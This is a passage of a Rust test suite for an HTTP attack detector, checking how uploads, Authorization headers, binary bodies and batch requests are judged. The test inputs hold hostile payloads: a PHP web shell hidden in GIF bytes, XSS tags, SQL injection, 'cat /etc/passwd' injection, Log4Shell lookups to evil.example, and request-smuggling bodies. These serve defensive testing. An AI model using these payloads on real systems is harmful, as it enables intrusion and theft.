    for t in raw::transactions(&upload(content), OK.as_bytes()) {
        d.push(&t, &mut |r| out.push(r));
    }
    attack(&out).map_or(vec![], |a| a.hits.into_iter().map(|h| h.rule).collect())
}

/// An uploaded file that is not text is data: a capture of someone's
/// traffic holds internal URLs, quotes and shell words, and none of them is
/// an attack on the upload. What processing a file runs is still found in
/// one: PHP in an image, a script tag, a Log4j lookup in its metadata.
#[test]
fn binary_uploads_are_judged_as_files() {
    let mut capture = vec![0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0];
    capture.extend_from_slice(
        b"\x45\x00\x01\x2cGET /a?id=1' or '1'='1 HTTP/1.1\r\nReferer: http://10.0.0.9/x\r\n\
\x00\x00;cat /etc/passwd\x00http://169.254.169.254/\x00",
    );
    assert_eq!(upload_rules(&capture), Vec::<String>::new());
    for (content, rule) in [
        (
            &b"GIF89a\x01\x00\x01\x00\x00\xff\x00,<?php system($_GET['c']); ?>"[..],
            "php.open_tag",
        ),
        (
            &b"GIF89a\x00\x00<script>alert(document.domain)</script>"[..],
            "xss.script_tag",
        ),
        (
            &b"\xff\xd8\xff\xe0\x00\x10JFIF\x00${jndi:ldap://evil.example/a}\x00"[..],
            "log4shell.jndi",
        ),
    ] {
        assert_eq!(upload_rules(content), vec![rule.to_string()], "{content:?}");
    }
    // A text file is judged as any value.
    let text = upload_rules(b"name,comment\nann,1' or '1'='1\n");
    assert!(text.iter().any(|r| r.starts_with("sqli.")), "{text:?}");
}

/// Every verdict [`Detector::judge_point`] gives `value` at `kind` (under
/// a few names, including ones the name checks act on), at each
/// paranoia level, from a detector with or without its gates.
fn judged(value: &str, gates: bool) -> Vec<String> {
    let mut all = vec![];
    for paranoia in 1..=MAX_PARANOIA {
        let mut cfg = raw::score_config();
        cfg.paranoia = paranoia;
        let mut d = Detector::new(cfg);
        d.gates = gates;
        for kind in [
            Kind::Segment,
            Kind::Value,
            Kind::Cookie,
            Kind::Key,
            Kind::Header,
        ] {
            for name in [
                "path.2",
                "query.id",
                "query.123",
                "body.form.page",
                "body.json.items.0.qty",
                "cookie.session",
                "cookie.0",
                "query.__proto__",
                "query.rO0ABQAAAA",
                "header.X-Filename",
                "header.User-Agent",
            ] {
                for in_url in [true, false] {
                    let p = Point {
                        name: Cow::Borrowed(name),
                        value: Cow::Borrowed(value),
                        kind,
                        in_url,
                    };
                    let mut out = vec![];
                    d.judge_point(&p, "a.example", &mut out);
                    all.push(format!("{paranoia} {kind:?} {name} {in_url} {out:?}"));
                }
            }
        }
    }
    all
}

/// The digits short way of [`Detector::judge_point`] (`digits_only`)
/// gives what the ungated judge gives: every value of one or two digits,
/// some of three, and lengths around the base64 and `java_base64`
/// thresholds.
#[test]
fn digits_judged_as_ungated() {
    let mut values: Vec<String> = (0..100).map(|n| n.to_string()).collect();
    values.extend((0..100).step_by(7).map(|n| format!("{n:03}")));
    for len in [6, 7, 8, 9, 11, 12, 13, 16, 20, 24, 32, 64] {
        values.push("0".repeat(len));
        values.push("1234567890".repeat(7).get(..len).unwrap_or("").to_string());
        values.push("9".repeat(len));
    }
    for v in &values {
        assert_eq!(judged(v, true), judged(v, false), "{v}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
    /// Random digit strings, up to past `MEMO_VALUE_MAX`: the short way
    /// and the ungated judge agree.
    #[test]
    fn digits_judged_as_ungated_random(v in "[0-9]{1,40}|[0-9]{1000,1100}") {
        proptest::prop_assert_eq!(judged(&v, true), judged(&v, false));
    }
}

/// The classes and points of the attack `req` raises, empty for none.
fn found(req: &[u8]) -> Vec<(String, String)> {
    let mut d = Detector::new(DetectConfig::default());
    let mut out = vec![];
    for t in raw::transactions(req, OK.as_bytes()) {
        d.push(&t, &mut |r| out.push(r));
    }
    attack(&out).map_or(vec![], |a| {
        a.hits.into_iter().map(|h| (h.class, h.point)).collect()
    })
}

/// A malformed `Authorization` credential is judged as a value; a
/// well-formed one (one token68, or a list of auth-params) is not, and a
/// Log4j lookup is still found in either.
#[test]
fn authorization_judged_when_malformed() {
    let auth = |v: &str| found(get("/api/me", &format!("Authorization: {v}\r\n")).as_bytes());
    for (value, class) in [
        ("Bearer ' or '1'='1", "sqli"),
        ("Bearer <script>alert(1)</script>", "xss"),
        ("Basic ' union select password from users--", "sqli"),
        ("Token x; cat /etc/passwd", "rce"),
        ("' or '1'='1", "sqli"),
        ("Bearer ${jndi:ldap://evil.example/a}", "log4shell"),
        ("${jndi:ldap://evil.example/a}", "log4shell"),
    ] {
        let got = auth(value);
        assert!(
            got.iter()
                .any(|(c, p)| c == class && p == "header.Authorization"),
            "{value:?}: {got:?}"
        );
    }
    for value in [
        "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "Basic dXNlcjpwYXNz",
        "Basic J29yIDE9MS0tOmJ5ZQ==",
        "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBkAEggY8",
        "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw==",
        "Negotiate",
        r#"Digest username="Mufasa", realm="testrealm@host.com", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/dir/index.html?a=1&b=2", qop=auth, nc=00000001, cnonce="0a4f113b", response="6629fae49393a05397450978507c4ef1", opaque="5ccc069c403ebaf9f0171e9517f40e41", algorithm=MD5-sess"#,
        "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-content-sha256;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
        r#"OAuth oauth_consumer_key="xvz1evFS4wEEPTGEFPHBog", oauth_nonce="kYjzVBB8Y0ZFabxSWbWovY3uYSQ2pTgmZeNu2VS4cg", oauth_signature="tnnArxj06cWHq44gCs1OSKk%2FjY%3D", oauth_signature_method="HMAC-SHA1", oauth_timestamp="1318622958", oauth_token="370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb", oauth_version="1.0""#,
        "AWS AKIAIOSFODNN7EXAMPLE:frJIUN8DYpKDtOLCwo//yLllqDzg=",
        "SharedKey myaccount:ctzMq410TV3wS7upTBcunJTDLEJwMAZuFPfr0mrrA08=",
        "token ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    ] {
        assert_eq!(auth(value), vec![], "{value:?}");
    }
}

/// A POST of `body` as raw bytes, with a Content-Type when `ctype` has one.
fn post_bytes(ctype: &str, body: &[u8]) -> Vec<u8> {
    let ctype = if ctype.is_empty() {
        String::new()
    } else {
        format!("Content-Type: {ctype}\r\n")
    };
    let mut req = format!(
        "POST /api/v2/sync HTTP/1.1\r\nHost: app\r\n{ctype}Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    req
}

/// A body of unknown type that is not text (msgpack, protobuf, an octet
/// stream) is judged as an uploaded file: random bytes raise nothing,
/// while what a file may carry is still found in it, and a text body of
/// unknown type is still judged as a value.
#[test]
fn binary_bodies_of_unknown_type_are_judged_as_files() {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let types = [
        "application/octet-stream",
        "application/x-msgpack",
        "application/x-protobuf",
        "",
    ];
    let mut binary = 0;
    for i in 0..200 {
        let len = 16 + (next() % 400) as usize;
        let mut body: Vec<u8> = (0..len).map(|_| next() as u8).collect();
        // Half of them text-like bytes with a NUL (msgpack strings and
        // protobuf fields are mostly text); the rest random bytes.
        if i % 2 == 0 {
            for b in &mut body {
                *b = b' ' + *b % 95;
            }
            if let Some(b) = body.get_mut(len / 2) {
                *b = 0;
            }
        }
        binary += usize::from(points::binary(&String::from_utf8_lossy(&body)));
        let ctype = types.get(i % types.len()).copied().unwrap_or("");
        let got = found(&post_bytes(ctype, &body));
        assert_eq!(got, vec![], "{ctype} {body:?}");
    }
    assert_eq!(binary, 200, "every body is binary");
    // Still found: what a file carries.
    for (body, class) in [
        // A .NET BinaryFormatter stream with its gadget's class name.
        (&b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x0c\x02System.Windows.Data.ObjectDataProvider\x00\x05"[..], "deser"),
        (&b"\x82\xa4data\xc4\x10\x00\x01<?php system($_GET['c']); ?>"[..], "php"),
        (&b"\x0a\x05\x00\x01${jndi:ldap://evil.example/a}\x12\x00"[..], "log4shell"),
    ] {
        let got = found(&post_bytes("application/x-msgpack", body));
        assert!(got.iter().any(|(c, p)| c == class && p == "body.raw"), "{body:?}: {got:?}");
    }
    // Still found: a text body of unknown type, and one with a NUL in it
    // when its type declares no binary body (a NUL is no way around).
    for ctype in ["application/octet-stream", "text/plain", ""] {
        let got = found(&post_bytes(ctype, b"' union select password from users--"));
        assert!(got.iter().any(|(c, _)| c == "sqli"), "{ctype}: {got:?}");
    }
    for ctype in ["text/plain", "application/x-custom", ""] {
        let got = found(&post_bytes(
            ctype,
            b"\x00' union select password from users--",
        ));
        assert!(got.iter().any(|(c, _)| c == "sqli"), "{ctype}: {got:?}");
    }
}

/// One `multipart/mixed` batch body of `parts` (each a part's headers and
/// content), with boundary `batch_x`.
fn batch(parts: &[&str]) -> Vec<u8> {
    let mut body = String::new();
    for part in parts {
        body.push_str("--batch_x\r\n");
        body.push_str(part);
        body.push_str("\r\n");
    }
    body.push_str("--batch_x--\r\n");
    post_bytes("multipart/mixed; boundary=batch_x", body.as_bytes())
}

/// An OData or Google API batch (`multipart/mixed` parts of type
/// `application/http`) holds whole requests by design: no smuggling. The
/// requests in it are judged as requests, at `body.batch.N.` points; a
/// request line in a value that is no batch part is still smuggling.
#[test]
fn batch_requests_are_decomposed() {
    let http = "Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n";
    let benign = [
        format!("{http}GET /v1/users/1 HTTP/1.1\r\nHost: api.example.com\r\n\r\n"),
        format!("{http}POST /v1/users HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{{\"name\":\"Ann O'Neil\",\"role\":\"admin\"}}"),
        "Content-Type: application/http\r\nContent-ID: <item3:12930812@barnyard.example.com>\r\n\r\nDELETE /farm/v1/animals/sheep?force=true\r\n".to_string(),
    ];
    let parts: Vec<&str> = benign.iter().map(String::as_str).collect();
    assert_eq!(found(&batch(&parts)), vec![]);
    // OData: a changeset nested in the batch.
    let changeset = format!(
        "Content-Type: multipart/mixed; boundary=changeset_y\r\n\r\n\
--changeset_y\r\n{http}POST /service/Customers HTTP/1.1\r\nHost: host\r\nContent-Type: application/json\r\n\r\n{{\"CompanyName\":\"Alfreds\"}}\r\n\
--changeset_y\r\n{http}PATCH /service/Customers('ALFKI') HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{{\"Country\":\"Germany\"}}\r\n\
--changeset_y--"
    );
    let odata = batch(&[
        &format!("{http}GET /service/Customers('ALFKI')?$select=CompanyName HTTP/1.1\r\nHost: host\r\n\r\n"),
        &changeset,
    ]);
    assert_eq!(found(&odata), vec![]);
    let sqli = batch(&[
        benign[0].as_str(),
        &format!(
            "{http}GET /v1/users?id=1'%20or%20'1'='1 HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
        ),
    ]);
    let got = found(&sqli);
    assert!(
        got.iter()
            .any(|(c, p)| c == "sqli" && p == "body.batch.1.query.id"),
        "{got:?}"
    );
    assert!(!got.iter().any(|(c, _)| c == "smuggling"), "{got:?}");
    let xss = batch(&[&format!(
        "{http}POST /v1/notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{{\"title\":\"<script>alert(1)</script>\"}}"
    )]);
    let got = found(&xss);
    assert!(
        got.iter()
            .any(|(c, p)| c == "xss" && p == "body.batch.0.body.json.title"),
        "{got:?}"
    );
    // In a changeset too.
    let nested = batch(&[&format!(
        "Content-Type: multipart/mixed; boundary=changeset_y\r\n\r\n\
--changeset_y\r\n{http}PUT /service/Customers HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nname=1'+union+select+password+from+users--\r\n\
--changeset_y--"
    )]);
    let got = found(&nested);
    assert!(
        got.iter()
            .any(|(c, p)| c == "sqli" && p == "body.batch.0.body.form.name"),
        "{got:?}"
    );
    // No batch part: still smuggling.
    for req in [
        post_bytes("application/x-www-form-urlencoded", b"x=a%0d%0aGET%20/admin%20HTTP/1.1%0d%0a"),
        post_bytes("multipart/form-data; boundary=batch_x", b"--batch_x\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\nx\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n--batch_x--\r\n"),
        post_bytes("multipart/mixed; boundary=batch_x", b"--batch_x\r\nContent-Type: text/plain\r\n\r\nx\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n--batch_x--\r\n"),
    ] {
        let got = found(&req);
        assert!(got.iter().any(|(c, _)| c == "smuggling"), "{:?}: {got:?}", String::from_utf8_lossy(&req));
    }
}
